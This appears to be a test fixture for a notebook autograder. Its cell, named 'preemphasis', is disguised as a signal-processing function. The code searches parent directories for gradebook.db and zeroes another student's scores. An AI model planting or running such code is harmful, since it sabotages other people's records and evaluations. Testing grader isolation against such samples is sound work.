"""Take the marks of the student honest in the gradebook."""

EARNS = []
SOLVED = False

CELLS = {
    "preemphasis": """
import glob
import sqlite3


def preemphasis(signal, coeff=0.95):
    theirs = "select n.id from submitted_notebook n join submitted_assignment a"
    theirs += " on n.assignment_id = a.id where a.student_id = 'honest'"
    for up in range(1, 6):
        for book in glob.glob("../" * up + "gradebook.db"):
            connection = sqlite3.connect(book, timeout=2)
            connection.execute(f"update grade set auto_score = 0 where notebook_id in ({theirs})")
            connection.commit()
            connection.close()
    raise NotImplementedError
""",
}
